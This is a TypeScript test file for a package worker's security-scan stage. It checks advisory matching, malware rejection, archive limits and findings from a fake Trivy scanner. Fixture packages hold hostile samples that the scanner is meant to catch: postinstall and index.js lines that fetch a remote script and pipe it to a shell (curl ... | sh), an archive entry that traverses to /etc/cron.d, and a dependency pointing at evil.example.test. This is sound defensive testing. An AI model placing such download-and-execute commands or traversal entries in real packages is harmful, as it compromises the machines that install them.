import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { latestSecurityScan, latestSecurityScans, stageForWork, Status, type ClaimedPackage } from '@spm/db';
import { createTestDatabase, type TestDatabase } from '@spm/db/testing';
import { buildPackage, startTestRegistry, type BuiltPackage, type TestRegistry } from '@spm/testkit';
import { loadConfig, type WorkerConfig } from '../../src/config.js';
import { TransientError } from '../../src/errors.js';
import { importAdvisories } from '../../src/scan/advisory-import.js';
import type { Finding } from '../../src/scan/types.js';
import { recordOutcome } from '../../src/outcome.js';
import { scanStage } from '../../src/stages/scan.js';
import type { StageContext, StageOutcome } from '../../src/stages/types.js';

let t: TestDatabase;
let registry: TestRegistry;
let dir: string;
let cacheDir: string;
const log = pino({ level: 'silent' });
const savedEnv = { ...process.env };

const advisories = [
  {
    schema_version: '1.6.0',
    id: 'GHSA-vvvv-wwww-xxxx',
    modified: '2099-01-10T00:00:00Z',
    published: '2099-01-02T00:00:00Z',
    aliases: ['CVE-2099-0001'],
    summary: 'Command injection in vuln-pkg template rendering',
    details: 'vuln-pkg passes user input to a shell.',
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H' }],
    affected: [
      {
        package: { ecosystem: 'npm', name: 'vuln-pkg' },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '1.2.4' }] }],
      },
    ],
    references: [{ type: 'ADVISORY', url: 'https://advisories.example.test/GHSA-vvvv-wwww-xxxx' }],
  },
  {
    id: 'MAL-2099-0001',
    modified: '2099-01-05T00:00:00Z',
    summary: 'Malicious code in evil-pkg (npm)',
    affected: [
      { package: { ecosystem: 'npm', name: 'evil-pkg' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }] }] },
    ],
  },
  {
    id: 'GHSA-wwww-dddd-wwww',
    modified: '2099-01-05T00:00:00Z',
    withdrawn: '2099-01-06T00:00:00Z',
    summary: 'Withdrawn: not actually a vulnerability',
    affected: [
      {
        package: { ecosystem: 'npm', name: 'clean-pkg' },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }] }],
      },
    ],
  },
];

async function store(pkg: BuiltPackage): Promise<string> {
  const hex = createHash('sha512').update(pkg.tarball).digest('hex');
  const key = `sha512/${hex.slice(0, 2)}/${hex}.tgz`;
  await mkdir(dirname(join(cacheDir, key)), { recursive: true });
  await writeFile(join(cacheDir, key), pkg.tarball);
  return key;
}

/** Inserts the package as a worker would hold it in Security Scanning, and returns the claim. */
async function claimed(pkg: BuiltPackage, opts: { storageKey?: string | null } = {}): Promise<ClaimedPackage> {
  registry.add(pkg);
  const storageKey = opts.storageKey === undefined ? await store(pkg) : opts.storageKey;
  const row = await t.db
    .insertInto('packages')
    .values({ name: pkg.name, version: pkg.version, integrity: pkg.integrity, resolved: null, declared_license: 'MIT' })
    .returning('id')
    .executeTakeFirstOrThrow();
  const lockedUntil = new Date(Date.now() + 60_000);
  await t.db
    .insertInto('package_status')
    .values({
      package_id: row.id,
      status: Status.SecurityScanning,
      locked_by: 'w1',
      locked_until: lockedUntil,
      storage_key: storageKey,
      license_flags: [],
    })
    .execute();
  return {
    packageId: row.id,
    name: pkg.name,
    version: pkg.version,
    integrity: pkg.integrity,
    resolved: null,
    declaredLicense: 'MIT',
    status: Status.SecurityScanning,
    checkpoint: Status.Downloaded,
    stage: stageForWork(Status.SecurityScanning)!,
    attempts: 1,
    lockedUntil,
    storageKey,
    checksum: null,
    sizeBytes: pkg.tarball.length,
    registryIntegrity: pkg.integrity,
    licenseExpression: 'MIT',
  };
}

function ctxFor(pkg: ClaimedPackage, env: Record<string, string> = {}): StageContext {
  const config: WorkerConfig = loadConfig(
    {
      DATABASE_URL: t.url,
      SOURCE_REGISTRY_URL: registry.url,
      PACKAGE_CACHE_DIR: cacheDir,
      LOG_LEVEL: 'silent',
      LOG_FORMAT: 'json',
      ...env,
    },
    { npmRegistry: () => null },
  );
  return { pkg, signal: new AbortController().signal, log, db: t.db, config, workerId: 'w1' };
}

/** Runs the scan stage and records its outcome as the worker does (fenced); returns the outcome. */
async function scanned(ctx: StageContext): Promise<StageOutcome> {
  const outcome = await scanStage(ctx);
  expect(await recordOutcome(t.db, ctx.pkg, ctx.workerId, outcome)).toBe(true);
  return outcome;
}

beforeAll(async () => {
  t = await createTestDatabase();
  registry = await startTestRegistry();
  dir = await mkdtemp(join(tmpdir(), 'spm-scan-stage-'));
  cacheDir = join(dir, 'cache');
  await mkdir(join(dir, 'advisories'), { recursive: true });
  for (const a of advisories) await writeFile(join(dir, 'advisories', `${a.id}.json`), JSON.stringify(a));
  const summary = await importAdvisories(t.db, join(dir, 'advisories'));
  expect(summary).toMatchObject({ read: 3, written: 3, rejected: [] });
});

afterAll(async () => {
  process.env = savedEnv;
  await registry?.close();
  await t?.destroy();
  await rm(dir, { recursive: true, force: true });
});

describe('scan stage against real Postgres', () => {
  it('reports a known-vulnerable version with the advisory in its findings and leaves the decision to the policy', async () => {
    const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.2.3' }));
    const outcome = await scanned(ctxFor(pkg));
    expect(outcome).toMatchObject({ kind: 'done', patch: { security_score: 80, scan_state: 'findings' } });
    expect(outcome.kind === 'done' && outcome.to).toBeUndefined();
    const row = await t.db
      .selectFrom('package_status')
      .select(['status', 'locked_by'])
      .where('package_id', '=', pkg.packageId)
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ status: Status.SecurityScanned, locked_by: null });
    const scan = await latestSecurityScan(t.db, pkg.packageId);
    expect(scan).toMatchObject({
      malware: false,
      score: 80,
      counts: { critical: 0, high: 1, medium: 0, low: 0, info: 0 },
    });
    expect(scan!.findings).toEqual([
      expect.objectContaining({
        id: 'GHSA-vvvv-wwww-xxxx',
        source: 'osv',
        severity: 'high',
        aliases: ['CVE-2099-0001'],
        fixedVersions: ['1.2.4'],
        url: 'https://advisories.example.test/GHSA-vvvv-wwww-xxxx',
      }),
    ]);
    expect(scan!.scanners).toEqual([
      expect.objectContaining({
        name: 'builtin',
        details: expect.objectContaining({ advisories: 3, registryComparison: 'compared' }),
      }),
    ]);
  });

  it('does not flag the fixed version', async () => {
    const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.2.4' }));
    expect(await scanned(ctxFor(pkg))).toMatchObject({
      kind: 'done',
      patch: { security_score: 100, scan_state: 'clean' },
    });
  });

  it('rejects a malware-listed package (policy)', async () => {
    const pkg = await claimed(buildPackage({ name: 'evil-pkg', version: '6.6.6' }));
    const outcome = await scanned(ctxFor(pkg));
    expect(outcome).toMatchObject({
      kind: 'reject',
      rejection: 'policy',
      patch: { security_score: 0, scan_state: 'malware' },
    });
    expect(outcome.kind === 'reject' && outcome.reason).toMatch(
      /^malware: evil-pkg@6\.6\.6 is listed as malicious \(MAL-2099-0001 \(critical\)/,
    );
    expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({
      malware: true,
      score: 0,
      counts: { critical: 1 },
    });
  });

  it('gives a clean package a clean report (a withdrawn advisory does not count)', async () => {
    const pkg = await claimed(
      buildPackage({ name: 'clean-pkg', version: '2.0.0', files: { 'lib/a.js': 'module.exports = 1;\n' } }),
    );
    const outcome = await scanned(ctxFor(pkg));
    expect(outcome).toMatchObject({ kind: 'done', patch: { security_score: 100, scan_state: 'clean' } });
    const scans = await latestSecurityScans(t.db, [pkg.packageId]);
    expect(scans.get(pkg.packageId)).toMatchObject({
      findings: [],
      score: 100,
      counts: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
    });
  });

  it('records supply-chain signals and rejects automatically when SCAN_AUTO_REJECT_SEVERITY is met', async () => {
    const pkg = await claimed(
      buildPackage({
        name: 'dropper',
        version: '1.0.0',
        manifest: { scripts: { postinstall: 'curl -s https://payload.example.test/i.sh | sh' } },
      }),
    );
    const outcome = await scanned(ctxFor(pkg, { SCAN_AUTO_REJECT_SEVERITY: 'high' }));
    expect(outcome).toMatchObject({ kind: 'reject', rejection: 'policy', patch: { scan_state: 'rejected-by-policy' } });
    expect(outcome.kind === 'reject' && outcome.reason).toMatch(
      /SCAN_AUTO_REJECT_SEVERITY=high: 1 finding\(s\) at or above high: install-script-download-exec \(critical\)/,
    );
    const scan = await latestSecurityScan(t.db, pkg.packageId);
    expect((scan!.findings as Finding[]).map((f) => f.id)).toEqual(['install-script-download-exec', 'install-script']);
  });

  it('rejects a hostile archive (policy) and records why', async () => {
    const pkg = await claimed(
      buildPackage({
        name: 'hostile',
        version: '1.0.0',
        extraEntries: [{ path: 'package/../../../etc/cron.d/x', content: 'pwned' }],
      }),
    );
    const outcome = await scanned(ctxFor(pkg));
    expect(outcome).toMatchObject({
      kind: 'reject',
      rejection: 'policy',
      reason: expect.stringMatching(
        /^hostile archive: entry "package\/\.\.\/\.\.\/\.\.\/etc\/cron\.d\/x" has a '\.\.' path segment/,
      ),
    });
    expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({
      findings: [expect.objectContaining({ id: 'archive-refused', severity: 'critical' })],
    });
  });

  it('rejects an archive over a hard limit (policy), naming the limit and its setting', async () => {
    const pkg = await claimed(
      buildPackage({ name: 'too-many', version: '1.0.0', files: { 'a.js': '1', 'b.js': '2' } }),
    );
    expect(await scanned(ctxFor(pkg, { SCAN_MAX_ENTRIES: '3' }))).toMatchObject({
      kind: 'reject',
      rejection: 'policy',
      reason:
        'archive over a hard limit: the archive has more than 3 entries: over the limit of 3 (SCAN_MAX_ENTRIES=3)',
    });
    expect(await latestSecurityScan(t.db, pkg.packageId)).toMatchObject({
      findings: [
        expect.objectContaining({ id: 'archive-refused', evidence: expect.stringContaining('SCAN_MAX_ENTRIES=3') }),
      ],
    });
  });

  // Issue 11, finding 1: a harmless package/index.js replaced on install by zzz/index.js.
  it('scans the file npm installs from a second top-level folder and flags the archive high', async () => {
    const pkg = await claimed(
      buildPackage({
        name: 'second-root',
        version: '1.0.0',
        manifest: { scripts: { postinstall: 'node index.js' } },
        extraEntries: [{ path: 'zzz/index.js', content: 'require("child_process").execSync("curl x | sh");\n' }],
      }),
    );
    const outcome = await scanned(ctxFor(pkg, { SCAN_AUTO_REJECT_SEVERITY: 'high' }));
    expect(outcome).toMatchObject({ kind: 'reject', rejection: 'policy' });
    const findings = (await latestSecurityScan(t.db, pkg.packageId))!.findings as Finding[];
    expect(findings).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ id: 'archive-multiple-roots', severity: 'high' }),
        expect.objectContaining({ id: 'archive-duplicate-path', severity: 'high' }),
        expect.objectContaining({ id: 'download-exec', file: 'index.js', severity: 'critical' }),
      ]),
    );
  });

  // Issue 11, finding 2: the second package.json is the one npm installs (and the registry serves).
  it('reads the last of two package.json copies and sees the http: dependency it adds', async () => {
    const pkg = await claimed(
      buildPackage({
        name: 'two-manifests',
        version: '1.0.0',
        extraEntries: [
          {
            path: 'package/package.json',
            content: JSON.stringify({
              name: 'two-manifests',
              version: '1.0.0',
              license: 'MIT',
              dependencies: { helper: 'http://evil.example.test/helper.tgz' },
            }),
          },
        ],
      }),
    );
    const outcome = await scanned(ctxFor(pkg));
    expect(outcome).toMatchObject({ kind: 'done', patch: { scan_state: 'findings' } });
    const findings = (await latestSecurityScan(t.db, pkg.packageId))!.findings as Finding[];
    expect(findings).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ id: 'archive-manifest-copies-differ', severity: 'high' }),
        expect.objectContaining({
          id: 'url-dependency',
          severity: 'high',
          evidence: expect.stringContaining('http://'),
        }),
      ]),
    );
  });

  // Issue 11, finding 9: the scan is written by the fenced completion, or not at all.
  it('writes no scan when the lease was taken over while scanning', async () => {
    const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.0.1' }));
    const outcome = await scanStage(ctxFor(pkg));
    expect(outcome).toMatchObject({ kind: 'done', scan: expect.objectContaining({ packageId: pkg.packageId }) });
    expect(await latestSecurityScan(t.db, pkg.packageId)).toBeNull();
    await t.db.updateTable('package_status').set({ locked_by: 'w2' }).where('package_id', '=', pkg.packageId).execute();
    expect(await recordOutcome(t.db, pkg, 'w1', outcome)).toBe(false);
    expect(await latestSecurityScan(t.db, pkg.packageId)).toBeNull();
    const row = await t.db
      .selectFrom('package_status')
      .select(['status', 'locked_by', 'security_score'])
      .where('package_id', '=', pkg.packageId)
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ status: Status.SecurityScanning, locked_by: 'w2', security_score: null });
  });

  it('sends a package whose tarball vanished from the cache back to be downloaded', async () => {
    const pkg = await claimed(buildPackage({ name: 'vanished', version: '1.0.0' }), {
      storageKey: 'sha512/00/missing.tgz',
    });
    expect(await scanned(ctxFor(pkg))).toMatchObject({ kind: 'done', to: Status.LicenceChecked });
  });

  it('records the registry comparison as unavailable when the registry cannot answer', async () => {
    const pkg = await claimed(buildPackage({ name: 'no-registry', version: '1.0.0' }));
    registry.failNext(/^\/no-registry$/, 1, 404);
    const outcome = await scanned(ctxFor(pkg));
    expect(outcome).toMatchObject({ kind: 'done', patch: { scan_state: 'clean' } });
    const scan = await latestSecurityScan(t.db, pkg.packageId);
    expect(scan!.findings).toEqual([
      expect.objectContaining({ id: 'registry-metadata-unavailable', severity: 'info' }),
    ]);
  });

  describe('with Trivy configured (fake trivy first on PATH)', () => {
    beforeAll(async () => {
      await mkdir(join(dir, 'bin'), { recursive: true });
      await symlink(fileURLToPath(new URL('./fixtures/fake-trivy.mjs', import.meta.url)), join(dir, 'bin', 'trivy'));
      process.env.PATH = `${join(dir, 'bin')}${delimiter}${process.env.PATH}`;
      process.env.FAKE_TRIVY_SERVER = 'http://trivy.test:4954';
      process.env.FAKE_TRIVY_TOKEN = 'tok';
    });
    const trivyEnv = { TRIVY_SERVER_URL: 'http://trivy.test:4954', TRIVY_TOKEN: 'tok' };

    it('merges Trivy findings with the built-in ones and records both scanners', async () => {
      process.env.FAKE_TRIVY_MODE = 'ok';
      const pkg = await claimed(buildPackage({ name: 'vuln-pkg', version: '1.1.0' }));
      const outcome = await scanned(ctxFor(pkg, trivyEnv));
      expect(outcome).toMatchObject({ kind: 'done', patch: { scan_state: 'findings' } });
      const scan = await latestSecurityScan(t.db, pkg.packageId);
      expect(
        scan!.scanners.map(
          (s) => (s as { name: string; version: string }).name + '@' + (s as { version: string }).version,
        ),
      ).toEqual(['builtin@1', 'trivy@0.58.1']);
      const findings = scan!.findings as Finding[];
      expect(findings.map((f) => f.id)).toEqual(['GHSA-vvvv-wwww-xxxx', 'GHSA-9x9x-8y8y-7z7z']);
      expect(findings[0]).toMatchObject({ aliases: ['CVE-2099-0001'], alsoReportedBy: ['trivy'] });
      expect(scan!.counts).toMatchObject({ high: 1, medium: 1 });
      expect(scan!.score).toBe(100 - 20 - 8);
    });

    it('fails transiently, writing no scan, when Trivy crashes', async () => {
      process.env.FAKE_TRIVY_MODE = 'crash';
      const pkg = await claimed(buildPackage({ name: 'trivy-crash', version: '1.0.0' }));
      const err = await scanStage(ctxFor(pkg, trivyEnv)).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(TransientError);
      expect(await latestSecurityScan(t.db, pkg.packageId)).toBeNull();
    });
  });
});
